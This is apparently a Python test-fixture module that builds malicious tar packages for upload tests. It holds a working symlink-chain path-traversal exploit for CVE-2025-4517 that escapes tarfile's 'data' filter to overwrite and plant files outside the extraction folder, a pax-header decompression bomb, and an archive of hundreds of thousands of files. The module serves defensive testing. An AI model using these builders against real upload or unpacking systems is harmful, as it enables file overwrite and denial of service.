"""Hostile packages, built the way an attacker would, for the tests that upload them.

- `symlink_chain`: CVE-2025-4517's shape. A chain of symlinks whose resolved path is longer than
  PATH_MAX makes `os.path.realpath` (and so tarfile's "data" filter, CPython 3.11.7) stop resolving,
  so a link that the kernel resolves to a folder outside passes as one inside; a file written
  through it overwrites `outside/sentinel` and plants `outside/planted`.
- `long_names`: pax headers whose path runs to hundreds of MB, compressed about 1,000 to 1.
- `many_files`: hundreds of thousands of empty files in a couple of MB.
"""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zlib
from pathlib import Path

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"


def _add(archive: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o777 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    archive.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def symlink_chain(destination: str, outside: Path) -> bytes:
    """A package that, unpacked by tarfile's data filter into the folder `destination` (only its length
    matters), writes `outside/sentinel` and `outside/planted`; it also holds a harmless bot.py."""
    component = "d" * ((PATH_MAX - len(destination) - 1) // (len(STEPS) + 1))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        path = ""
        for step in STEPS:
            _add(archive, os.path.join(path, component), tarfile.DIRTYPE)
            _add(archive, os.path.join(path, step), tarfile.SYMTYPE, component)
            path = os.path.join(path, component)
        # Past PATH_MAX once expanded: realpath leaves it (and all after it) unexpanded.
        long_link = os.path.join(*STEPS, "l" * 254)
        _add(archive, long_link, tarfile.SYMTYPE, os.path.join(*[".."] * len(STEPS)))
        # The destination's parent to the kernel, a folder deep inside the destination to realpath.
        _add(archive, "escape", tarfile.SYMTYPE, f"{long_link}/..")
        _add(archive, "out", tarfile.SYMTYPE, "escape/" + "../" * (len(STEPS) - 2) + str(outside).lstrip("/"))
        _add(archive, "out/sentinel", data=b"OVERWRITTEN by an upload\n")
        _add(archive, "out/planted", data=b"planted by an upload\n")
        _add(archive, "bot.py", data=b"print('never runs')\n")
    return buffer.getvalue()


def _pax_record(key: str, value_size: int) -> tuple[bytes, int]:
    """The head of a pax record `LEN key=<value_size x 'a'>\\n` and its total length."""
    body = len(key) + 2 + value_size + 1  # " key=" + value + "\n", the length's own digits added below
    length = body + len(str(body))
    length = body + len(str(length))
    return f"{length} {key}=".encode(), length


def long_names(copies: int = 4, name_bytes: int = 256 << 20) -> bytes:
    """Files named by a pax path of `name_bytes` bytes each, `copies` times (about 1 MB compressed with the
    defaults). Each copy is a gzip member of its own (gzip allows a stream of several): compressed once."""
    buffer = io.BytesIO()
    chunk = b"a" * (1 << 20)
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0, compresslevel=9) as out:
        head, length = _pax_record("path", name_bytes)
        pax = tarfile.TarInfo("PaxHeader/file")
        pax.type = tarfile.XHDTYPE
        pax.size = length
        out.write(pax.tobuf(tarfile.USTAR_FORMAT) + head)
        for _ in range(name_bytes // len(chunk)):
            out.write(chunk)
        out.write(chunk[: name_bytes % len(chunk)] + b"\n" + bytes(-length % tarfile.BLOCKSIZE))
        out.write(tarfile.TarInfo("file").tobuf(tarfile.USTAR_FORMAT))
    return buffer.getvalue() * copies + gzip.compress(bytes(2 * tarfile.BLOCKSIZE), mtime=0)


def many_files(count: int = 300_000) -> bytes:
    """`count` empty files in one folder (a couple of MB compressed)."""
    template = bytearray(tarfile.TarInfo("f0000000").tobuf(tarfile.USTAR_FORMAT))
    template[148:156] = b" " * 8
    base = sum(template) - sum(b"f0000000")
    out = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = []
    batch = bytearray()
    for number in range(count):
        name = b"f%07d" % number
        template[0:8] = name
        template[148:156] = b"%06o\0 " % (base + sum(name))
        batch += template
        if len(batch) >= 1 << 22:
            parts.append(out.compress(bytes(batch)))
            batch.clear()
    parts.append(out.compress(bytes(batch) + bytes(2 * tarfile.BLOCKSIZE)))
    parts.append(out.flush())
    return b"".join(parts)
